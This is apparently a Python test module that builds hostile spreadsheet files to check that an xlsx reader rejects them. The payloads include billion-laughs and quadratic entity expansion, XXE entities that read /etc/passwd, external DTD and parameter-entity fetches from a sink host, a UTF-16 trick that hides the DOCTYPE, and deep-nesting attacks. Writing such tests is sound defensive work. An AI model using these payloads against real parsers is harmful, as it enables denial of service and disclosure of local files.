"""Entities, document types and markup that overwhelm a reader."""

from __future__ import annotations

from tests.hostile.entry import Collection
from tests.hostile.ooxml import MAIN, STRINGS, STYLES, XML, patched, sheet_book, simple
from tests.hostile.people import ADDRESS, SINK, roster_with

cases = Collection()
_PASSWD = "root:x:0:0"
_LAUGHS = '<!ENTITY a0 "lol">' + "".join(
    f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 11)
)


def _sheet(dtd: str, text: str) -> str:
    cell = f'<c r="A1" t="inlineStr"><is><t>{text}</t></is></c>'
    return (
        f'<?xml version="1.0"?>\n{dtd}\n<worksheet xmlns="{MAIN}"><sheetData><row r="1">{cell}'
        "</row></sheetData></worksheet>"
    )


@cases.entry("xml", "clean-error")
def xml_billion_laughs() -> bytes:
    return sheet_book(_sheet(f"<!DOCTYPE worksheet [{_LAUGHS}]>", "&a10;"))


@cases.entry("xml", "clean-error")
def xml_billion_laughs_strings() -> bytes:
    """In the shared strings, which many guards forget."""
    part = f'<?xml version="1.0"?><!DOCTYPE sst [{_LAUGHS}]><sst xmlns="{MAIN}">'
    return simple(parts={STRINGS: part + "<si><t>&a10;</t></si></sst>"}).zip()


@cases.entry("xml", "clean-error")
def xml_quadratic() -> bytes:
    """2 GB without nesting."""
    return sheet_book(_sheet(f'<!DOCTYPE worksheet [<!ENTITY a "{"A" * 100000}">]>', "&a;" * 20000))


@cases.entry("xml", "clean-error", canary=(_PASSWD,))
def xml_xxe_file() -> bytes:
    dtd = '<!DOCTYPE worksheet [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return sheet_book(_sheet(dtd, "&x;"))


@cases.entry("xml", "clean-error", canary=(_PASSWD,))
def xml_xxe_workbook() -> bytes:
    """Where the names of sheets and areas stand."""
    dtd = '<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    name = '<definedNames><definedName name="n">&x;</definedName></definedNames>'
    return patched(
        ("<workbook ", dtd + "<workbook "), ("<bookViews>", name + "<bookViews>"),
        part="xl/workbook.xml",
    )  # fmt: skip


@cases.entry("xml", "clean-error", canary=(SINK,))
def xml_external_dtd() -> bytes:
    return sheet_book(_sheet(f'<!DOCTYPE worksheet SYSTEM "http://{SINK}/evil.dtd">', "x"))


@cases.entry("xml", "clean-error", canary=(SINK,))
def xml_parameter_entity() -> bytes:
    dtd = f'<!DOCTYPE Types [<!ENTITY % p SYSTEM "http://{SINK}/p.dtd"> %p;]>'
    return patched(("<Types ", dtd + "<Types "), part="[Content_Types].xml")


@cases.entry("xml", "clean-error", accept=("ok",), rows=5)
def xml_harmless_doctype() -> bytes:
    """No workbook has a document type: refusing every one is simple and complete."""
    return patched(("<worksheet ", "<!DOCTYPE worksheet><worksheet "))


@cases.entry("xml", "clean-error")
def xml_doctype_utf16() -> bytes:
    """A search of the bytes for a document type does not see this one."""
    text = _sheet(f"<!DOCTYPE worksheet [{_LAUGHS}]>", "&a10;")
    named = text.replace('version="1.0"', 'version="1.0" encoding="UTF-16"', 1)
    return sheet_book(b"\xff\xfe" + named.encode("utf-16-le"))


@cases.entry("xml", "clean-error")
def xml_deep_nesting() -> bytes:
    """The stack of a recursive reader overflows."""
    deep = "<r>" * 200_000 + "<t>x</t>" + "</r>" * 200_000
    cell = f'<row r="1"><c r="A1" t="inlineStr"><is>{deep}</is></c></row>'
    return sheet_book(XML + f'<worksheet xmlns="{MAIN}"><sheetData>{cell}</sheetData></worksheet>')


@cases.entry("xml", "clean-error", accept=("ok",))
def xml_deep_nesting_styles() -> bytes:
    deep = "<b>" * 100_000 + "</b>" * 100_000
    return simple(styles=STYLES.replace("<font>", "<font>" + deep)).zip()


@cases.entry("xml", "clean-error", accept=("ok",), rows=5)
def xml_many_attributes() -> bytes:
    crowd = " ".join(f'a{i}="1"' for i in range(100_000))
    return patched(('<row r="2"', '<row r="2" ' + crowd))


@cases.entry("xml", "findings", accept=("clean-error",))
def xml_long_cell() -> bytes:
    """32 MiB in a cell; Excel keeps 32,767 characters."""
    return simple(roster_with(ADDRESS, ["A" * (32 << 20)])).zip()
